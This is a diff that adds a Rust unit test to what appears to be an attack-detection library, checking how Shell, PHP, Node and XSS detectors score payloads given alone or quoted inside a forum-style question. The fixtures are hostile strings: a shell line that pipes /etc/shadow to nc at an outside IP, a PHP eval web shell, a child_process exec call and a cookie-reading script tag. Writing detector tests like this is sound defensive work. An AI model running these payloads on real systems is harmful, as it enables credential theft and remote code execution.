@@ -45,6 +45,25 @@ pub(super) fn check_table(detector: Detector, context: Context, least: u8, attac
 }
 
 #[test]
+fn what_a_text_quotes_or_mentions_counts_one_point() {
+    const ASKS: &str = "请问各位老师这段脚本为什么在服务器上没有输出，应该怎么改？";
+    let quoted = |code: &str| format!("{ASKS}\n```\n{code}\n```\n谢谢！");
+    for (detector, code) in [
+        (Detector::Shell, "x; cat /etc/shadow | nc 192.0.2.1 4444"),
+        (Detector::Php, "<?php eval($_POST['a']); ?>"),
+        (Detector::Node, "require('child_process').exec('id')"),
+    ] {
+        let value = Context::of(Place::Value);
+        assert!(confidence(detector, code.as_bytes(), value) >= SURE, "{code}");
+        assert_eq!(confidence(detector, quoted(code).as_bytes(), value), MENTION, "{code}");
+        // A query or a file name is no place for a text with code in it.
+        assert!(confidence(detector, quoted(code).as_bytes(), Context::of(Place::Cookie)) > MENTION, "{code}");
+    }
+    let script = "<script>alert(document.cookie)</script>";
+    assert!(confidence(Detector::Xss, quoted(script).as_bytes(), Context::of(Place::Value)) >= SURE);
+}
+
+#[test]
 fn names_are_found_without_regard_to_case() {
     for detector in Detector::ALL {
         assert_eq!(Detector::from_name(&detector.name().to_uppercase()), Some(*detector));
